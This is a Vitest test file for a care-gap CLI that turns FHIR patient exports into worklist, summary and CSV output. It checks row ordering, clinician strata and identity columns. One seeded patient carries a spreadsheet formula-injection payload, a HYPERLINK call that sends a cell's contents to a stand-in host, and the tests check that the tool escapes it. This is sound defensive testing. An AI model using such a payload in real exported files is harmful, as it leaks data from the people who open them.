/**
 * `caregap evaluate --format worklist|summary|csv` run as a child process on the sandbox's seeded
 * panel written as a Bulk Data export (one ndjson file per type), plus three hand-written patients:
 * a hostile name that would run as a spreadsheet formula, and two "Maria Garcia"s — one attributed
 * by generalPractitioner, one (no generalPractitioner) by her qualifying visits.
 * The worklist must equal the engine's own rows for the same records, in due-date-then-risk order,
 * every row an open gap still closable on the as-of day; the summary's clinician strata must add
 * up to every group's totals; every patient-level cell must be formula-safe.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox } from '../../launch/sandbox/sandbox.ts';
import {
  evaluatePatient,
  patientIdentity,
  recordFromResources,
  worklistLines,
  worklistRows,
  type WorklistRow,
} from '../../src/engine/index.ts';
import { parseCsv } from '../engine/report/parse-csv.ts';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const CLI = join(ROOT, 'src/cli/caregap.mjs');
const PERIOD = { start: '2026-01-01', end: '2026-12-31' };
const AS_OF = '2026-06-10';
const ARGS = ['--period-start', PERIOD.start, '--period-end', PERIOD.end, '--as-of', AS_OF, '--quiet'];
const MR = { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/v2-0203', code: 'MR' }] };

let dir: string;
const byPatient = new Map<string, fhir4.Resource[]>();

function run(...args: string[]): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [CLI, 'evaluate', ...ARGS, ...args, dir], {
    cwd: ROOT,
    encoding: 'utf8',
    timeout: 120_000,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** An adult with an office visit on 2026-05-04 (−04:00) and no depression or SDOH screening: CMS2 and SDOH gaps open. */
function unscreened(id: string, patient: Partial<fhir4.Patient>, participant?: fhir4.Reference): fhir4.Resource[] {
  const enc: fhir4.Encounter = {
    resourceType: 'Encounter',
    id: `${id}-visit`,
    status: 'finished',
    class: { system: 'http://terminology.hl7.org/CodeSystem/v3-ActCode', code: 'AMB' },
    type: [{ coding: [{ system: 'http://www.ama-assn.org/go/cpt', code: '99213' }] }],
    subject: { reference: `Patient/${id}` },
    period: { start: '2026-05-04T16:00:00-04:00', end: '2026-05-04T16:30:00-04:00' },
    ...(participant ? { participant: [{ individual: participant }] } : {}),
  };
  return [{ resourceType: 'Patient', id, birthDate: '1970-01-01', ...patient } as fhir4.Patient, enc];
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'caregap-worklist-'));
  const sandbox = createSandbox({ origin: 'http://localhost:1', seed: 7, patientCount: 30, anchorDate: AS_OF });
  for (const p of sandbox.patients()) {
    byPatient.set(p.id, sandbox.resourcesFor(p.id));
  }
  byPatient.set(
    'hostile',
    unscreened('hostile', {
      name: [{ given: ['=HYPERLINK("http://evil.example/?"&A1'], family: '"Click")' }],
      identifier: [{ type: MR, value: '-1+1' }],
      telecom: [{ system: 'phone', value: '+1 555 0100' }],
      generalPractitioner: [{ reference: 'Practitioner/x', display: '@Dr Evil' }],
    }),
  );
  byPatient.set(
    'maria-1',
    unscreened('maria-1', {
      name: [{ given: ['Maria'], family: 'Garcia' }],
      birthDate: '1961-03-14',
      identifier: [{ type: MR, value: 'MRN-1' }],
      generalPractitioner: [{ reference: 'Practitioner/dr-rivera', display: 'Dr. Ana Rivera' }],
    }),
  );
  byPatient.set(
    'maria-2',
    unscreened(
      'maria-2',
      {
        name: [{ given: ['Maria'], family: 'Garcia' }],
        birthDate: '1984-11-02',
        identifier: [{ type: MR, value: 'MRN-2' }],
      },
      { reference: 'Practitioner/np-chen', display: 'NP Lily Chen' },
    ),
  );
  const byType = new Map<string, string[]>();
  for (const resources of byPatient.values()) {
    for (const r of resources) {
      byType.set(r.resourceType, [...(byType.get(r.resourceType) ?? []), JSON.stringify(r)]);
    }
  }
  for (const [type, lines] of byType) {
    writeFileSync(join(dir, `${type}.ndjson`), `${lines.join('\n')}\n`);
  }
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('caregap evaluate --format worklist', { timeout: 180_000 }, () => {
  it('writes the engine’s own worklist for these records: open, still-closable gaps by due date then risk', () => {
    const r = run('--format', 'worklist');
    expect(r.code, r.stderr).toBe(0);
    const expected: WorklistRow[] = [];
    for (const resources of byPatient.values()) {
      const record = recordFromResources(resources);
      const ev = evaluatePatient(record, { period: PERIOD, asOf: AS_OF });
      expected.push(...worklistRows(ev, patientIdentity(record, ev)));
    }
    expect(expected.length).toBeGreaterThan(20);
    expect(r.stdout).toBe(`${worklistLines(expected).join('\n')}\n`);
    // the same worklist whatever the number of threads (rows travel back from the worker)
    expect(run('--format', 'worklist', '--jobs', '2').stdout).toBe(r.stdout);

    const [header, ...rows] = parseCsv(r.stdout);
    expect(header).toEqual([
      'name',
      'birth-date',
      'mrn',
      'phone',
      'clinician',
      'gap-id',
      'gap-title',
      'due',
      'days-left',
      'risk',
      'flags',
      'action',
      'reason',
      'patient',
    ]);
    const col = (name: string) => header!.indexOf(name);
    const dues = rows.map((row) => row[col('due')]!).filter(Boolean);
    expect(dues).toEqual([...dues].sort());
    for (const row of rows) {
      if (row[col('due')]) {
        expect(row[col('due')]! >= AS_OF).toBe(true);
      }
      if (row[col('due')]) {
        expect(Number(row[col('days-left')])).toBe((Date.parse(row[col('due')]!) - Date.parse(AS_OF)) / 86_400_000);
      }
    }
    // the sandbox's patients carry name, birth date, MRN, phone and their clinician's name
    const sandboxRow = rows.find((row) => row[col('patient')]!.startsWith('Patient/pt-'))!;
    for (const c of ['name', 'birth-date', 'mrn', 'phone']) {
      expect(sandboxRow[col(c)]).toBeTruthy();
    }
    expect(sandboxRow[col('clinician')]).toMatch(/^(Dr\.|NP) /);
  });

  it('neutralises a hostile name, MRN, phone and clinician and keeps the row one record', () => {
    const [header, ...rows] = parseCsv(run('--format', 'worklist').stdout);
    const hostile = rows.filter((row) => row.at(-1) === 'Patient/hostile');
    expect(hostile.length).toBeGreaterThan(0);
    for (const row of hostile) {
      expect(row).toHaveLength(header!.length);
      expect(row.slice(0, 5)).toEqual([
        '\'=HYPERLINK("http://evil.example/?"&A1 "Click")',
        '1970-01-01',
        "'-1+1",
        "'+1 555 0100",
        "'@Dr Evil",
      ]);
    }
  });

  it('tells the two Maria Garcias apart by birth date, MRN and clinician (one by generalPractitioner, one by her visits)', () => {
    const [header, ...rows] = parseCsv(run('--format', 'worklist').stdout);
    const marias = new Map(
      rows
        .filter((row) => row[0] === 'Maria Garcia')
        .map((row) => [row.at(-1), row.slice(1, 5).filter((_, i) => i !== 2)]),
    );
    expect(header!.slice(1, 5)).toEqual(['birth-date', 'mrn', 'phone', 'clinician']);
    expect(Object.fromEntries(marias)).toEqual({
      'Patient/maria-1': ['1961-03-14', 'MRN-1', 'Dr. Ana Rivera'],
      'Patient/maria-2': ['1984-11-02', 'MRN-2', 'NP Lily Chen'],
    });
  });
});

describe('caregap evaluate --format summary, csv: clinician strata and identity', { timeout: 180_000 }, () => {
  it('stratifies every summary MeasureReport group by attributed clinician; strata add up to the totals', () => {
    const r = run('--format', 'summary');
    expect(r.code, r.stderr).toBe(0);
    const reports = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as fhir4.MeasureReport);
    expect(reports.length).toBeGreaterThanOrEqual(6);
    const count = (pops: fhir4.MeasureReportGroupPopulation[] | undefined, code: string) =>
      pops!.find((p) => p.code!.coding![0]!.code === code)!.count!;
    for (const report of reports) {
      for (const g of report.group!) {
        const strata = g.stratifier![0]!.stratum!;
        // an episode measure's groups (fuh, fum, fua, tcm) have no exception population
        const codes = g.population!.map((p) => p.code!.coding![0]!.code!);
        expect(codes.length).toBeGreaterThanOrEqual(4);
        for (const code of codes) {
          expect(
            strata.reduce((n, s) => n + count(s.population, code), 0),
            `${report.id} ${g.id} ${code}`,
          ).toBe(count(g.population, code));
        }
      }
    }
    const labels = reports[0]!.group![0]!.stratifier![0]!.stratum!.map((s) => s.value!.text);
    expect(labels).toEqual(expect.arrayContaining(['Dr. Ana Rivera', 'NP Lily Chen', 'Dr. Chidi Okafor', '@Dr Evil']));
  });

  it('starts every csv row with who the patient is, formula-safe', () => {
    const out = join(dir, 'table.csv.out');
    const r = run('--format', 'csv', '--out', out);
    expect(r.code, r.stderr).toBe(0);
    const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'));
    expect(header!.slice(0, 5)).toEqual(['patient', 'name', 'birth-date', 'mrn', 'clinician']);
    const hostile = rows.find((row) => row[0] === 'Patient/hostile')!;
    expect(hostile.slice(1, 5)).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1 "Click")',
      '1970-01-01',
      "'-1+1",
      "'@Dr Evil",
    ]);
    expect(rows.every((row) => row.length === header!.length)).toBe(true);
  });
});
